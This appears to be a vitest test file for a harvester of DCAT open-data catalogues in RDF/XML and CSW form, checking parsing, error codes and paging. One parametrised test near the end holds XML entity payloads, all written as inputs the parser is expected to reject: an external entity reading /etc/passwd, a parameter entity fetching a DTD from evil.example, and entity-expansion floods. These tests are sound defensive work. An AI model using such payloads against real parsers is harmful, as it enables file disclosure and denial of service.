import { expect, it } from 'vitest';
import { codes, harvest, identifiers, rdfXml, titlesOf } from './given-catalogue.js';

const dataset = (about: string, content: string): string =>
  `<dcat:Dataset rdf:about="${about}"><dct:description>All</dct:description>${content}</dcat:Dataset>`;

it('reads what is nested and what is apart', async () => {
  const harvested = await harvest(
    rdfXml(`<dcat:Catalog rdf:about="https://city.example/"><dcat:dataset>${dataset(
      'trees',
      '<dct:title xml:lang="en">Trees</dct:title><dcat:distribution rdf:resource="trees/csv"/>',
    )}</dcat:dataset></dcat:Catalog>
    <dcat:Distribution rdf:about="trees/csv"><dcat:downloadURL rdf:resource="trees.csv"/></dcat:Distribution>`),
  );

  expect(harvested.problems).toEqual([]);
  expect(harvested.datasets).toMatchObject([
    {
      identifier: 'https://city.example/trees',
      titles: [{ text: 'Trees', language: 'en' }],
      distributions: [{ downloadUrl: 'https://city.example/trees.csv' }],
    },
  ]);
});

it('keeps records whose address is invalid', async () => {
  const harvested = await harvest(
    rdfXml(dataset('http://city.example/a b#&quot;A', '<dct:title>A</dct:title>')),
  );

  expect(harvested.datasets).toMatchObject([
    { identifier: 'http://city.example/a b#"A', iri: null },
  ]);
  expect(codes(harvested)).toEqual(['IRI_INVALID']);
});

it('joins the pieces of a text around CDATA', async () => {
  const harvested = await harvest(
    rdfXml(dataset('a', '<dct:title>Trees <![CDATA[& <b>bushes</b>]]> too</dct:title>')),
  );

  expect(titlesOf(harvested)).toEqual(['Trees & <b>bushes</b> too']);
});

it('reads marked-up text as text', async () => {
  const harvested = await harvest(
    rdfXml(dataset('a', '<dct:title rdf:parseType="Literal">All <b>trees</b></dct:title>')),
  );

  expect(titlesOf(harvested)).toEqual(['All <b>trees</b>']);
});

it.each([
  ['an undeclared namespace', '<dct:title>A</dct:title><health:x>1</health:x>'],
  ['an undefined entity', '<dct:title>A</dct:title><dct:alternative>a&nbsp;b</dct:alternative>'],
  [
    'a property that the rules forbid',
    '<dct:title>A</dct:title><rdf:Description>x</rdf:Description>',
  ],
  [
    'two subjects at once',
    '<dct:title>A</dct:title><dct:relation rdf:resource="x" rdf:nodeID="y"/>',
  ],
])('keeps a dataset that has %s', async (_, content) => {
  const harvested = await harvest(
    rdfXml(dataset('a', content) + dataset('b', '<dct:title>B</dct:title>')),
  );

  expect(titlesOf(harvested)).toEqual(['A', 'B']);
  expect(codes(harvested)).toEqual(['DOCUMENT_BROKEN']);
});

it('rejects the record within which the document breaks off, and keeps those before', async () => {
  const whole = rdfXml(
    dataset('a', '<dct:title>A</dct:title>') + dataset('b', '<dct:title>B</dct:title>'),
  );

  const harvested = await harvest(whole.slice(0, whole.lastIndexOf('</dcat:Dataset>')));

  expect(titlesOf(harvested)).toEqual(['A']);
  expect(harvested.problems).toMatchObject([
    { code: 'DOCUMENT_BROKEN', outcome: 'REJECTED' },
    { code: 'RECORD_BROKEN', outcome: 'REJECTED', record: 'https://city.example/b' },
  ]);
});

it('reads every RDF element of a CSW answer, and where its next page is', async () => {
  const rdf = (name: string): string =>
    rdfXml(dataset(name, `<dct:title>${name}</dct:title>`), '').trim();
  const answer = `<?xml version="1.0"?><csw:GetRecordsResponse xmlns:csw="http://www.opengis.net/cat/csw/2.0.2">
    <csw:SearchResults numberOfRecordsMatched="6" nextRecord="3">${rdf('a')}${rdf('b')}</csw:SearchResults>
  </csw:GetRecordsResponse>`;

  const harvested = await harvest(answer, {
    url: 'https://city.example/csw?request=GetRecords&startposition=1',
  });

  expect(titlesOf(harvested)).toEqual(['a', 'b']);
  expect(harvested.problems).toEqual([]);
  expect(harvested.total).toBe(6);
  expect(harvested.next).toEqual(['https://city.example/csw?request=GetRecords&startposition=3']);
});

const documentType = (entities: string): string =>
  rdfXml(
    dataset('a', '<dct:title>&x;</dct:title>'),
    `<?xml version="1.0"?><!DOCTYPE rdf:RDF [${entities}]>`,
  );

it('knows short entities, such as for namespaces', async () => {
  const harvested = await harvest(documentType('<!ENTITY x "T&#114;ees &amp; bushes">'));

  expect(titlesOf(harvested)).toEqual(['Trees & bushes']);
  expect(harvested.problems).toEqual([]);
});

it.each([
  ['that name others', '<!ENTITY y "lol"><!ENTITY x "&y;&y;">'],
  ['of other files', '<!ENTITY x SYSTEM "file:///etc/passwd">'],
  ['of parameters', '<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;'],
  ['that are long', `<!ENTITY x "${'a'.repeat(201)}">`],
  ['in great number', Array.from({ length: 101 }, (_, at) => `<!ENTITY x${at} "a">`).join('')],
])('does not read on with entities %s', async (_, entities) => {
  const harvested = await harvest(documentType(entities));

  expect(identifiers(harvested)).toEqual([]);
  expect(harvested.problems).toMatchObject([{ code: 'DOCUMENT_BROKEN', outcome: 'REJECTED' }]);
});

it('does not read on when entities would fill the document', async () => {
  const title = `<dct:title>${'&x;'.repeat(400_000)}</dct:title>`;

  const harvested = await harvest(
    rdfXml(dataset('a', title), `<!DOCTYPE rdf:RDF [<!ENTITY x "${'a'.repeat(200)}">]>`),
  );

  expect(identifiers(harvested)).toEqual([]);
  expect(harvested.problems[0]?.found).toBe('entities that fill most of the document');
});
